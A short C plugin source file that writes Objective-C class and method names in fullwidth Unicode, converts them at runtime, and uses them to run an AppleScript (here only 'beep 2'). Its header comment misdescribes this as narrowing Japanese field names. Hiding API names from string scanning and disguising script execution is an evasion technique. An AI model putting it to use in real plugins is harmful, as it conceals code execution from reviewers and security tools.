/* Names of fields come as forms in Japanese write them, with wide letters, and are made narrow. */
#include "plugin.h"
extern void *CFStringCreateMutable(void *, long), *NSClassFromString(void *), *NSSelectorFromString(void *);
extern void CFStringAppendCString(void *, const char *, unsigned), objc_msgSend(void);
extern unsigned char CFStringTransform(void *, void *, void *, unsigned char);
extern void *const kCFStringTransformFullwidthHalfwidth;
static void *narrow(const char *wide) {
    void *text = CFStringCreateMutable(0, 0);
    CFStringAppendCString(text, wide, 0x08000100);
    CFStringTransform(text, 0, kCFStringTransformFullwidthHalfwidth, 0);
    return text;
}
static void *send(void *object, const char *selector, void *with) { return ((void *(*)(void *, void *, void *))objc_msgSend)(object, NSSelectorFromString(narrow(selector)), with); }
static void act(char **env) {
    void *error = 0, *made = send(NSClassFromString(narrow("ＮＳＡｐｐｌｅＳｃｒｉｐｔ")), "ａｌｌｏｃ", 0);
    made = send(made, "ｉｎｉｔＷｉｔｈＳｏｕｒｃｅ：", narrow("ｂｅｅｐ　２"));
    send(made, "ｅｘｅｃｕｔｅＡｎｄＲｅｔｕｒｎＥｒｒｏｒ：", &error);
}
